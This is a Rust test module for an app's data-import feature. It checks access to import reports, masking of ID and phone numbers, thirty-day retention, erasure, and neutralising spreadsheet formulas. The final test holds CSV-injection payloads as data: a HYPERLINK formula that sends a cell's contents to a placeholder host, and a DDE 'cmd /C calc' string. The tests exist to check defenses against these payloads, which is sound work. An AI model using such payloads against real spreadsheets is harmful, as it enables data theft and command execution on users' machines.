//! Data that an import discloses, on both engines: to whom, in what words, for how long, and how a spreadsheet interprets it.

use super::over_http::{ended, form, send};
use super::*;
use crate::outside::sheet::Form;
use crate::rooms::households::tests::{NUMBER, path, wang};
use crate::sweep::sweep;
use crate::testing::{Caller, both};
use axum::http::Method;
use serde_json::Value;
use weiguang_domain::kernel::time::Span;

const RESIDENTS: &str = "姓名,身份证号,电话,网格编码\n\
    王秀英,110105194912310021,13812341234,51011701900600901\n\
    陈小明,,138123412345,51011701900600901\n\
    李四13700000001,,,51011701900600999\n";
const DIRECTORY: &str = "小区,栋,网格编码\n锦绣花园,1栋,51011701900600999\n";

/// An import with faulty rows: its id.
async fn run_by(test: &TestApp, caller: &Caller<'_>, kind: &str, table: &str) -> String {
    let started = send(caller, &format!("/imports/{kind}"), test.id(), form(&[], table)).await.good();
    let id = started["id"].as_str().unwrap().to_owned();
    assert_eq!(ended(caller, &id).await["state"], "refused");
    id
}

async fn listed(caller: &Caller<'_>) -> Vec<String> {
    let list = caller.get("/imports").await.good();
    let items = list["items"].as_array().unwrap().iter();
    let mut kinds: Vec<String> = items.map(|one| one["kind"].as_str().unwrap().to_owned()).collect();
    kinds.sort();
    kinds
}

#[test]
fn an_import_is_seen_by_who_may_run_its_kind() {
    both(async |test| {
        let manager = test.as_("manager").await;
        let residents = run_by(test, &manager, "residents", RESIDENTS).await;
        let directory = run_by(test, &manager, "directory", DIRECTORY).await;
        let looked = send(&manager, "/imports/residents?dry_run=true", test.id(), form(&[], RESIDENTS)).await.good();
        let trial = looked["bad_rows_url"].as_str().unwrap().to_owned();
        assert_eq!(listed(&manager).await, ["directory", "residents", "residents"]);
        // The administrator runs imports, of areas and grids; the ledger of residents is not theirs.
        let administrator = test.as_("administrator").await;
        assert_eq!(listed(&administrator).await, ["directory"]);
        for path in [format!("/imports/{residents}"), format!("/imports/{residents}/bad-rows"), trial.clone()] {
            assert_eq!(administrator.get(&path).await.refused(404), "kernel.not-found", "{path}");
            manager.get(&path).await;
        }
        administrator.get(&format!("/imports/{directory}")).await.good();
        assert!(administrator.get(&format!("/imports/{directory}/bad-rows")).await.status.is_success());
        for login in ["other-manager", "other-dispatcher"] {
            let other = test.as_(login).await;
            assert_eq!(other.get(&format!("/imports/{residents}")).await.refused(404), "kernel.not-found", "{login}");
            assert_eq!(listed(&other).await, [""; 0], "{login}");
        }
        for login in ["secretary", "member01", "auditor"] {
            assert_eq!(test.as_(login).await.get("/imports").await.refused(403), "access.denied", "{login}");
        }
    });
}

#[test]
fn no_number_and_no_name_stands_in_a_report() {
    both(async |test| {
        let manager = test.as_("manager").await;
        let id = run_by(test, &manager, "residents", RESIDENTS).await;
        let looked = send(&manager, "/imports/residents?dry_run=true", test.id(), form(&[], RESIDENTS)).await.good();
        for report in [looked, manager.get(&format!("/imports/{id}")).await.good()] {
            let told = report.to_string();
            for whole in ["110105194912310021", "13812341234", "138123412345", "13700000001", "王秀英", "陈小明"]
            {
                assert!(!told.contains(whole), "{whole} in {told}");
            }
            assert!(told.contains("110105********0021") && told.contains("51011701900600999"), "{told}");
        }
        // The file of faulty rows is to be corrected, and has them unchanged.
        let rows = manager.get(&format!("/imports/{id}/bad-rows")).await;
        assert!(String::from_utf8(rows.bytes).unwrap().contains("110105194912310021"));
        let tickets = "编号,主题,详情,电话\n1,找王大爷13812341234,证件11010519491231002X,138\n,空,,\n";
        let looked = looked_at(test, tickets).await;
        assert!(!looked.contains("13812341234") && looked.contains("138****1234"), "{looked}");
    });
}

async fn looked_at(test: &TestApp, tickets: &str) -> String {
    let dispatcher = test.as_("dispatcher").await;
    let report = send(&dispatcher, "/imports/tickets?dry_run=true", test.id(), form(&[], tickets)).await.good();
    report.to_string()
}

async fn details(caller: &Caller<'_>, id: &str) -> (bool, u16) {
    let run = caller.get(&format!("/imports/{id}")).await.good();
    assert_eq!(run["state"], "refused", "that there was an import stays");
    (run["report"] != Value::Null, caller.get(&format!("/imports/{id}/bad-rows")).await.status.as_u16())
}

#[test]
fn reports_and_bad_rows_are_forgotten_after_thirty_days() {
    both(async |test| {
        let manager = test.as_("manager").await;
        let (old, grids) = (
            run_by(test, &manager, "residents", RESIDENTS).await,
            run_by(test, &manager, "directory", DIRECTORY).await,
        );
        test.clock.advance(Span::days(29) + Span::hours(1));
        let young = run_by(test, &manager, "residents", RESIDENTS).await;
        sweep(&test.app).await;
        assert_eq!(details(&manager, &old).await, (true, 200));
        test.clock.advance(Span::days(1) + Span::minutes(1));
        sweep(&test.app).await;
        for gone in [old, grids] {
            assert_eq!(details(&manager, &gone).await, (false, 404));
        }
        assert_eq!(details(&manager, &young).await, (true, 200));
        let list = manager.get("/imports").await.good().to_string();
        assert!(
            list.contains("residents-2026-12-22.csv") && !list.contains("住户.csv"),
            "a file may be named after somebody: {list}"
        );
    });
}

#[test]
fn what_imports_told_of_residents_goes_when_one_of_them_is_erased() {
    both(async |test| {
        let manager = test.as_("manager").await;
        let person = wang(test, &manager).await;
        let (run, grids) = (
            run_by(test, &manager, "residents", RESIDENTS).await,
            run_by(test, &manager, "directory", DIRECTORY).await,
        );
        let looked = send(&manager, "/imports/residents?dry_run=true", test.id(), form(&[], RESIDENTS)).await.good();
        let erase = format!("{}/erase", path(&person));
        manager.send(Method::POST, &erase, Some(test.id()), Some(1), None).await.good();
        assert_eq!(details(&manager, &run).await, (false, 404));
        assert_eq!(manager.get(looked["bad_rows_url"].as_str().unwrap()).await.refused(404), "kernel.not-found");
        assert_eq!(details(&manager, &grids).await, (true, 200));
        // Nothing else that an import wrote is about her: neither the stored answers nor the log.
        let kept = test.app.read(|tx| {
            let mut texts: Vec<String> = tx.query("SELECT reply FROM sends", &[], |row| row.get(0))?;
            let none =
                "SELECT kind FROM imports WHERE kind = 'residents' AND (report IS NOT NULL OR bad_rows IS NOT NULL)";
            texts.extend(tx.query(none, &[], |row| row.get::<String>(0))?);
            Ok(texts)
        });
        for text in kept.await.unwrap() {
            assert!(!text.contains(NUMBER) && !text.contains("王秀英") && text != "residents", "{text}");
        }
    });
}

#[test]
fn nothing_in_a_file_of_bad_rows_acts_as_a_formula() {
    both(async |test| {
        let table = "小区,栋,别名,网格编码\n\
            \"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",＝1+1,-3.5,51011701900600999\n\
            @SUM(A1),\"\t=1\",+cmd|' /C calc'!A0,51011701900600999\n";
        let (_, bad) = taken(test, Kind::Directory, &here(), table.as_bytes()).await;
        let bad = bad.unwrap();
        let text = String::from_utf8(bad.bytes.clone()).unwrap();
        for (cell, safe) in [
            ("=HYPERLINK", "'=HYPERLINK"),
            ("＝1+1", "'＝1+1"),
            ("@SUM", "'@SUM"),
            ("\t=1", "'\t=1"),
            ("+cmd", "'+cmd"),
        ] {
            assert!(text.contains(safe) && text.matches(cell).count() == 1, "{cell} in {text}");
        }
        assert!(text.contains(",-3.5,"), "a number stays one: {text}");
        // Sent again, it is unchanged: the guard is removed and added once.
        let (_, again) = taken(test, Kind::Directory, &here(), &bad.bytes).await;
        assert_eq!(String::from_utf8(again.unwrap().bytes).unwrap(), text);
        let mut sheet = crate::outside::sheet::Sheet::new().unwrap();
        sheet.row(["=1+1", "-3.5", "王"]).unwrap();
        let book = sheet.finish(Form::Xlsx).unwrap();
        use calamine::{Data, Reader as _};
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(book)).unwrap();
        let range = book.worksheet_range("Sheet1").unwrap();
        let cells: Vec<Data> = range.rows().flatten().cloned().collect();
        assert_eq!(cells, ["'=1+1", "-3.5", "王"].map(|text| Data::String(text.into())));
    });
}
